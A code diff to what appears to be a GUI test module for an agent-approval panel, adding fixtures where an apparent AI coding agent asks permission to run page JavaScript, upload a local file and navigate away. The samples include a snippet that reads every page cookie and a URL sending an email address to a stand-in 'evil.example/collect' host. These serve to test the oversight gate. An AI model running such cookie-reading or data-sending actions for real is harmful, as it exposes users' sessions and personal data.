@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import contextlib
 from pathlib import Path
+from typing import Any
 
 from PySide6.QtWidgets import QWidget
 
 from kapture_panel.core.basics import tasks
 from kapture_panel.core.basics.errors import KaptureError
 from kapture_panel.core.doctor import CHAIN, Check
+from kapture_panel.core.gates.approvals import Scene
 from kapture_panel.core.gates.rules import Rule
 from kapture_panel.installing.plans import Plan
 from kapture_panel.window.shell.main_window import MainWindow
@@ -154,14 +156,68 @@ async def approval_with_scopes(window: MainWindow, instance: Instance) -> QWidge
                 agent, instance.catalogue.get("navigate"), {"url": "https://evil.example/?mail=a%40b.c"},
                 site="evil.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
                 why="leaves shop.example for evil.example", permission="navigate", scopes=("once", "session", "always"),
-                picture=png(200, 60),
+                picture=png(200, 60), scene=Scene(pages=("https://shop.example/?q=1",)),
             )  # fmt: skip
 
     tasks.spawn(asking(), "ask")
     await until(lambda: (card := window.rooms.agents.approvals.card) is not None and card.allow.isEnabled(), "the card")
     await until(
-        lambda: (card := window.rooms.agents.approvals.card) is not None and card.picture.isVisible(), "the picture"
+        lambda: (card := window.rooms.agents.approvals.card) is not None and card.text.has_picture, "the picture"
     )
+    return window
+
+
+CODE = """// every cookie of the page
+const found = document.cookie.split("; ").map((one) => one.split("="));
+return found.filter(([name]) => name !== "theme").slice(0, 20);"""
+
+
+async def questions(window: MainWindow, instance: Instance) -> QWidget:
+    """Three questions wait: code, a file, a page; the first is open with its details."""
+    fill(instance)
+    agent = instance.add_agent("claude-code")
+    agent.parent, agent.program = "claude", "/usr/bin/claude"
+    invoice = instance.folder / "invoice.pdf"
+    invoice.write_bytes(b"x" * 12_345)
+    wanted: tuple[tuple[str, dict[str, Any], str], ...] = (
+        ("evaluate", {"code": CODE}, "runs code in the page"),
+        ("upload_file", {"paths": [str(invoice)], "selector": "#file"}, f"gives {invoice} to the page"),
+        ("navigate", {"url": "https://evil.example/collect?mail=a%40b.c"}, "leaves shop.example for evil.example"),
+    )
+    tab = instance.tabs.get("t1")
+
+    async def asking(name: str, params: dict[str, Any], why: str) -> None:
+        with contextlib.suppress(KaptureError):  # the window went with the question
+            await instance.router.gates.approvals.ask(
+                agent, instance.catalogue.get(name), params, site="shop.example", where=f"{tab.title} – {tab.url}",
+                timeout_s=20, why=why, permission="execute", scopes=("once", "session", "always"),
+                scene=Scene(tab, (tab.url,), name == "navigate"),
+            )  # fmt: skip
+
+    for name, params, why in wanted:
+        tasks.spawn(asking(name, params, why), "ask")
+    window.shell.toasts.clear()
+    await until(lambda: (card := window.rooms.agents.approvals.card) is not None and card.allow.isEnabled(), "the card")
+    assert len(window.rooms.agents.approvals.asks) == len(wanted)
+    return window
+
+
+async def question_details(window: MainWindow, instance: Instance) -> QWidget:
+    """All that is known of the second question."""
+    await questions(window, instance)
+    view = window.rooms.agents.approvals
+    view.list.setCurrentIndex(view.list.model().index(1, 0))
+    assert view.card is not None
+    view.card.more.setChecked(True)
+    await until(lambda: (card := view.card) is not None and card.allow.isEnabled(), "the card")
+    return window
+
+
+async def approval_outdated(window: MainWindow, instance: Instance) -> QWidget:
+    """The page was left before the person answered."""
+    await questions(window, instance)
+    instance.tabs.update(instance.tabs.get("t1"), url="https://other.example/")
+    await until(lambda: (card := window.rooms.agents.approvals.card) is not None and not card.is_open, "the end")
     return window
 
 
